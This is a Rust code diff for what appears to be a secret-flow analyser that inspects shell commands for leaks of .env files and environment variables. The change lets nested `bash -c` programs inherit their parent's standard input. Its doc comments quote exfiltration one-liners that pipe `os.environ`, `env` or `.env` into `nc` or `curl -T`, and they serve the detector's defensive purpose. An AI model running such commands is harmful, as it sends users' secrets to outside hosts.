@@ -230,12 +230,18 @@ pub(crate) struct Walker<'a> {
     /// The secret sources the last interpreter snippet read (its environment, a credential
     /// file): what it prints may carry them (`python3 -c 'print(os.environ)' | nc …`).
     pub code_sources: Vec<crate::model::FlowSource>,
-    /// The secret a group of commands reads as its standard input (`while read l; do …; done
     /// The file names a listing feeds the `while` loop being walked (`git ls-files | while
     /// read -r f`): what `read` there binds (see `Walker::shell_builtin`).
     pub group_items: Option<Word>,
+    /// The secret a group of commands reads as its standard input (`while read l; do …; done
     /// < .env`, `cat .env | { read a; … }`): what `read`/`mapfile` inside assign carries it.
     pub group_secret: Option<crate::model::FlowSource>,
+    /// The standard input of the shell program being walked: nothing for the agent's own line,
+    /// and for a nested program what its shell was given (`sh -c 'curl -T - URL' < .env`,
+    /// `env | bash -c 'nc host 4444'`, `split --filter=CMD .env`). A statement with no input
+    /// of its own reads it, as a child process inherits its shell's descriptor 0. Invariant:
+    /// restored when the nested program ends (see [`Walker::with_shell_stdin`]).
+    pub shell_stdin: Producer,
     /// A secret a statement of the compound command being walked printed to the command's
     /// own output (`{ echo "$tok"; }`, a loop body's `printf '%s' "$l"`): the compound
     /// command's output carries it to what it is piped into.
@@ -415,6 +421,7 @@ impl<'a> Walker<'a> {
             code_sources: Vec::new(),
             exit_traps: Vec::new(),
             group_secret: None,
+            shell_stdin: Producer::Nothing,
             group_items: None,
             group_out: None,
             fd_secrets: Vec::new(),
@@ -481,6 +488,19 @@ impl Walker<'_> {
         self.extra.push(Verdict::unknown(reason));
     }
 
+    /// Runs `walk` with `stdin` as the standard input of the nested shell program it walks
+    /// (see [`Walker::shell_stdin`]), restoring the outer program's afterwards.
+    pub(crate) fn with_shell_stdin<R>(
+        &mut self,
+        stdin: Producer,
+        walk: impl FnOnce(&mut Self) -> R,
+    ) -> R {
+        let outer = std::mem::replace(&mut self.shell_stdin, stdin);
+        let out = walk(self);
+        self.shell_stdin = outer;
+        out
+    }
+
     /// Parses and walks `source` as a nested shell program (`bash -c`, `eval`, heredoc to a
     /// shell), bounded by the recursion limit.
     pub(crate) fn analyze_source(&mut self, source: &str, scope: &mut Scope, via: &str) {
@@ -507,7 +527,7 @@ impl Walker<'_> {
             let argv: Vec<Word> = words.into_iter().map(Word::lit).collect();
             self.recursion += 1;
             scope.via.push(via.to_owned());
-            let _ = self.exec(&argv, scope, Producer::Nothing);
+            let _ = self.exec(&argv, scope, self.shell_stdin.clone());
             scope.via.pop();
             self.recursion -= 1;
             return;
@@ -579,7 +599,7 @@ impl Walker<'_> {
 
     /// Walks one statement with no piped input.
     pub(crate) fn stmt(&mut self, node: Node<'_>, src: &str, scope: &mut Scope, depth: usize) {
-        let out = self.stmt_io(node, src, scope, Producer::Nothing, depth);
+        let out = self.stmt_io(node, src, scope, self.shell_stdin.clone(), depth);
         // A statement of a body prints to the group's own output unless it sends its stdout
         // to a file: a secret it prints is what the group prints (see `Walker::group_out`).
         if let Producer::Secret(source) = out
